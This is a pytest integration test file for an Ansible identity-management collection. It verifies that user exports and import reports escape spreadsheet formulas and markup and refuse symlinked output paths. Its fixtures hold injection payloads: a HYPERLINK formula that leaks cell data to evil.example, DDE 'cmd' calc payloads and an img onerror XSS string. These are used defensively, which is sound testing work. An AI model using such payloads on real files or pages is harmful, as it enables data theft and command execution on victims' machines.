# -*- coding: utf-8 -*-
# Copyright (c) 2026 cyberark_community.identity contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What identity_user_export and identity_bulk_import write on the controller, through real ansible-playbook runs:
no cell of an export or a report is a live formula or markup, an untouched export of such values imports with no
change, and a symbolic link planted at a file's final path is refused before the tenant is read or changed."""

from __future__ import annotations

import csv
import io
import re
import stat
import zipfile

import pytest
from identity_it import SERVICE_ENV, play_vars  # pylint: disable=import-error

SUFFIX = "inert.acme.com"
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"x")'
DISPLAY_NAMES = [HYPERLINK, "@SUM(1+1)", "-2+3", "+cmd|' /C calc'!A0", "'=quoted already", "Plain Name"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def tenant(sim):
    """Users of inert.acme.com whose display names and phone numbers a spreadsheet would run as formulas."""
    state = sim.sim.world.tenants[0]
    with state.lock:
        for uid in [u for u, record in state.users.items() if record["Name"].lower().endswith("@" + SUFFIX)]:
            state.remove_user(uid)
        if not any(s["name"] == SUFFIX for s in state.login_suffixes):
            state.login_suffixes.append({"name": SUFFIX, "cds": True})
        for index, display_name in enumerate(DISPLAY_NAMES):
            state.add_user({"Name": f"inert{index}@{SUFFIX}", "Mail": f"inert{index}@{SUFFIX}", "DisplayName": display_name,
                            "MobileNumber": f"+1415555010{index}"})
        state.version += 1
    return state


def export(run_playbook, sim, dest, **extra):
    run = run_playbook("user_export.yml", extra_vars=play_vars(sim, export_dest=str(dest), export_suffixes=[SUFFIX], **extra),
                       env=SERVICE_ENV)
    assert "dest" in run.result or "msg" in run.result, run.output[-3000:]
    return run


def import_file(run_playbook, sim, path, **extra):
    run = run_playbook("bulk_import.yml", extra_vars=play_vars(sim, import_path=str(path), **extra), env=SERVICE_ENV)
    assert "import" in run.result or "msg" in run.result, run.output[-3000:]
    return run


def xlsx_cells(path):
    """Each cell of the first sheet as (type attribute, has a formula), read from the file's XML."""
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    return [(re.search(r'\bt="([^"]*)"', cell), "<f" in cell) for cell in re.findall(r"<c\b.*?(?:/>|</c>)", sheet, re.S)]


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_an_export_holds_no_formula_and_imports_back_with_no_change(sim, tenant, run_playbook, tmp_path, extension):
    dest = tmp_path / f"export.{extension}"
    written = export(run_playbook, sim, dest)
    assert written.result.get("changed") is True and written.result["users"] == len(DISPLAY_NAMES), written.result.get("msg")
    if extension == "csv":
        rows = list(csv.DictReader(io.StringIO(dest.read_text(encoding="utf-8"))))
        assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())
        assert sorted(row["Display Name"] for row in rows) == sorted(
            "'" + name if name.startswith(FORMULA_STARTS + ("'",)) else name for name in DISPLAY_NAMES)
    else:
        cells = xlsx_cells(dest)
        assert cells and not any(formula for _type, formula in cells)
        assert {kind.group(1) for kind, _formula in cells} == {"inlineStr"}
    assert stat.S_IMODE(dest.stat().st_mode) == 0o600

    sim.post("reset")
    imported = import_file(run_playbook, sim, dest)
    assert imported.result.get("changed") is False, imported.result.get("msg") or imported.result["import"]["rows"][:3]
    assert imported.result["import"]["summary"]["unchanged"] == len(DISPLAY_NAMES) and sim.get("requests")["writes"] == 0
    assert export(run_playbook, sim, dest).result["changed"] is False


def test_the_import_report_carries_no_formula_or_markup_from_the_file(sim, run_playbook, tmp_path):
    path = tmp_path / "hostile.csv"
    hostile = "=cmd|' /C calc'!A0@acme.com"
    rows = [["Login Name", "Email Address", "Description"],
            [hostile, "x@acme.com", ""],
            ["inert.ok@acme.com", "inert.ok@acme.com", "[click](https://evil.example) <img src=x onerror=alert(1)>"]]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    report = tmp_path / "reports" / "report.csv"
    run = import_file(run_playbook, sim, path, import_report_path=str(report), import_check_mode=True)
    assert run.result.get("failed") is True and sim.get("requests")["writes"] == 0  # both rows are invalid
    plan = report.parent / "report.plan.csv"
    lines = list(csv.reader(io.StringIO(plan.read_text(encoding="utf-8"))))
    assert not any(cell.startswith(FORMULA_STARTS) for line in lines for cell in line)
    assert ["'" + hostile] == [line[1] for line in lines[1:] if line[1].endswith(hostile)]
    summary = (report.parent / "report.plan.md").read_text(encoding="utf-8")
    bare = re.sub(r"\\.", "", summary)  # the summary without its escaped characters: no markup is left
    assert not set("[]()<>`*_") & set(bare), summary


def victim(tmp_path):
    target = tmp_path / "elsewhere" / "precious.txt"
    target.parent.mkdir()
    target.write_text("keep me\n", encoding="utf-8")
    target.chmod(0o644)
    return target


def untouched(target):
    return target.read_text(encoding="utf-8") == "keep me\n" and stat.S_IMODE(target.stat().st_mode) == 0o644


@pytest.mark.parametrize("planted, check_mode", [("report.csv", False), ("report.md", False), ("report.plan.csv", True)])
def test_a_symlink_at_a_report_file_fails_the_import_before_any_request(sim, run_playbook, tmp_path, planted, check_mode):
    target = victim(tmp_path)
    (tmp_path / planted).symlink_to(target)
    path = tmp_path / "users.csv"
    path.write_text("Login Name,Email Address\r\ninert.new@acme.com,inert.new@acme.com\r\n", encoding="utf-8")
    run = import_file(run_playbook, sim, path, import_report_path=str(tmp_path / "report.csv"), import_check_mode=check_mode)
    assert run.result.get("failed") is True
    assert f"report_path: {tmp_path / planted} is a symbolic link" in run.result["msg"]
    assert sim.get("requests")["total"] == 0 and untouched(target) and (tmp_path / planted).is_symlink()


def test_a_symlink_at_the_export_dest_fails_before_any_request(sim, tenant, run_playbook, tmp_path):
    target = victim(tmp_path)
    dest = tmp_path / "export.csv"
    dest.symlink_to(target)
    run = export(run_playbook, sim, dest)
    assert run.result.get("failed") is True and f"dest: {dest} is a symbolic link" in run.result["msg"]
    assert sim.get("requests")["total"] == 0 and untouched(target) and dest.is_symlink()
